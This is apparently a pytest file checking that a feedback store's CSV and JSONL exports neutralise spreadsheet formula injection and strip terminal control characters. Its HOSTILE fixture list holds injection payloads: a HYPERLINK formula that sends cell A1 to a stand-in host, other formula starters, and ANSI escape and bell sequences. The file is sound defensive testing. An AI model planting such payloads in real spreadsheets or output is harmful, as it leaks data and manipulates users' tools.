"""Feedback exports are inert: no formula a spreadsheet would run, no control character a terminal
would obey (OWASP CSV injection; issue #19)."""

from __future__ import annotations

import csv
import io
import json

import pytest

from advisor.feedback import FeedbackStore

HOSTILE = ["=HYPERLINK(\"http://x.example/?\"&A1,\"klik\")", "+1+1", "-2+3", "@SUM(A1:A2)", "\tTAB", "\rCR",
           "kleur \x1b[31mrood\x1b[0m", "bel\x07", "c1\x9bcsi"]


@pytest.fixture
def store(tmp_path):
    store = FeedbackStore(tmp_path / "feedback.sqlite3")
    for n, comment in enumerate(HOSTILE):
        store.add(f"a{n}", -1, comment, question="=vraag", answer="gewoon antwoord")
    return store


def test_csv_cells_that_would_run_as_formulas_start_with_a_quote(store):
    rows = list(csv.DictReader(io.StringIO(store.export("csv"))))
    comments = [r["comment"] for r in rows]
    for comment in comments[:5]:
        assert comment.startswith("'"), comment
    assert comments[5] == "CR"  # a carriage return is a control character: stripped, nothing left to run
    assert all(r["question"] == "'=vraag" for r in rows)
    assert all(r["answer"] == "gewoon antwoord" for r in rows)
    assert rows[0]["rating"] == "-1"  # numbers stay numbers


@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_exports_carry_no_control_characters(store, fmt):
    text = store.export(fmt)
    assert not any(ch in text for ch in "\x1b\x07\x9b")
    if fmt == "jsonl":
        comments = [json.loads(line)["comment"] for line in text.splitlines()]
        assert "kleur [31mrood[0m" in comments and HOSTILE[0] in comments  # JSON keeps the text as data
